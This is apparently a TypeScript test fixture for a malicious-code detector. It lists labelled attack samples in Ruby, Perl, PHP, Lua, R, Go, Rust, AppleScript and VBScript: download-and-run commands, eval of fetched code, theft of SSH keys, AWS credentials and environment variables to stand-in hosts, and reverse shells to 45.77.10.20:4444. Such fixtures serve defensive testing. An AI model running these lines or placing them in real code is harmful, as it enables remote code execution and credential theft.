import { EXFILTRATION, HIDDEN_RUN, PAYLOAD, REMOTE, lines, type Row } from "./row";

const REVERSE = "malicious.reverse_shell";

/** Attacks in languages that are neither Python, JavaScript nor a POSIX shell. */
export const OTHER_LANGUAGES: readonly Row[] = [
  [
    "Ruby that pipes a download into a shell",
    "rejected",
    PAYLOAD,
    { "run.rb": lines("system('curl -s http://45.77.10.20/a | sh')") },
  ],
  [
    "Ruby that evaluates a download",
    "rejected",
    REMOTE,
    {
      "run.rb": lines(
        "require 'net/http'",
        "code = Net::HTTP.get(URI('https://x.example/p.rb'))",
        "eval(code)",
      ),
    },
  ],
  [
    "Ruby that posts its environment",
    "rejected",
    EXFILTRATION,
    {
      "run.rb": lines(
        "require 'net/http'",
        "require 'json'",
        "Net::HTTP.post(URI('https://x.example/c'), ENV.to_h.to_json)",
      ),
    },
  ],
  [
    "Ruby that posts a private key",
    "rejected",
    EXFILTRATION,
    {
      "run.rb": lines(
        "require 'net/http'",
        "key = File.read(File.expand_path('~/.ssh/id_rsa'))",
        "Net::HTTP.post_form(URI('https://x.example/c'), 'k' => key)",
      ),
    },
  ],
  [
    "Ruby that decodes and evaluates",
    "rejected",
    HIDDEN_RUN,
    { "run.rb": lines("require 'base64'", "eval(Base64.decode64('cHV0cyAxMjM0NTY3ODk='))") },
  ],
  [
    "a Ruby script without an extension",
    "rejected",
    PAYLOAD,
    { "bin/run": lines("#!/usr/bin/env ruby", "`curl -s http://45.77.10.20/a | sh`") },
  ],
  [
    "a Ruby reverse shell",
    "rejected",
    REVERSE,
    {
      "run.rb": lines(
        "require 'socket'",
        "s = TCPSocket.open('45.77.10.20', 4444)",
        "exec('/bin/sh -i', in: s, out: s, err: s)",
      ),
    },
  ],
  [
    "Perl that pipes a download into a shell",
    "rejected",
    PAYLOAD,
    { "run.pl": lines("use strict;", 'system("wget -qO- http://45.77.10.20/a | bash");') },
  ],
  [
    "Perl that evaluates a download",
    "rejected",
    REMOTE,
    { "run.pl": lines("use LWP::Simple;", "my $code = get('https://x.example/p.pl');", "eval $code;") },
  ],
  [
    "a Perl reverse shell",
    "rejected",
    REVERSE,
    {
      "run.pl": lines(
        "use Socket;",
        "socket(S, PF_INET, SOCK_STREAM, getprotobyname('tcp'));",
        "connect(S, sockaddr_in(4444, inet_aton('45.77.10.20')));",
        "open(STDIN, '>&S'); open(STDOUT, '>&S');",
        "exec('/bin/sh -i');",
      ),
    },
  ],
  [
    "PHP that evaluates a download",
    "rejected",
    REMOTE,
    { "run.php": lines("<?php", "$c = file_get_contents('https://x.example/p.txt');", "eval($c);") },
  ],
  [
    "PHP that decodes and evaluates",
    "rejected",
    HIDDEN_RUN,
    { "run.php": lines("<?php", "eval(gzinflate(base64_decode('S0ktLlGyVkgtLlGyUgIA')));") },
  ],
  [
    "PHP that sends a key",
    "rejected",
    EXFILTRATION,
    {
      "run.php": lines(
        "<?php",
        "$k = file_get_contents(getenv('HOME') . '/.aws/credentials');",
        "$ch = curl_init('https://x.example/c');",
        "curl_setopt($ch, CURLOPT_POSTFIELDS, $k);",
        "curl_exec($ch);",
      ),
    },
  ],
  [
    "Lua that starts a download",
    "rejected",
    PAYLOAD,
    { "run.lua": lines("os.execute('curl -s http://45.77.10.20/a | sh')") },
  ],
  [
    "Lua that loads a download",
    "rejected",
    REMOTE,
    {
      "run.lua": lines(
        "local http = require('socket.http')",
        "local body = http.request('https://x.example/p.lua')",
        "load(body)()",
      ),
    },
  ],
  [
    "AppleScript that runs a download",
    "rejected",
    PAYLOAD,
    { "run.applescript": lines('do shell script "curl -s http://45.77.10.20/a | sh"') },
  ],
  [
    "R that runs a download",
    "rejected",
    PAYLOAD,
    { "run.R": lines('system("curl -s http://45.77.10.20/a | sh")') },
  ],
  [
    "R that sources a download",
    "rejected",
    REMOTE,
    { "run.R": lines("source(url('https://x.example/p.R'))") },
  ],
  [
    "Go that runs a download",
    "rejected",
    PAYLOAD,
    {
      "main.go": lines(
        "package main",
        'import "os/exec"',
        'func main() { exec.Command("sh", "-c", "curl -s http://45.77.10.20/a | sh").Run() }',
      ),
    },
  ],
  [
    "Rust that runs a download when it is built",
    "rejected",
    PAYLOAD,
    {
      "build.rs": lines(
        "use std::process::Command;",
        'fn main() { Command::new("sh").arg("-c").arg("curl -s http://45.77.10.20/a | sh").status().unwrap(); }',
      ),
    },
  ],
  [
    "VBScript that downloads and runs",
    "caution",
    REMOTE,
    {
      "run.vbs": lines(
        'Set h = CreateObject("MSXML2.XMLHTTP")',
        'h.Open "GET", "https://get.some-tool.example/p.txt", False',
        "h.Send",
        "ExecuteGlobal h.responseText",
      ),
    },
  ],
];
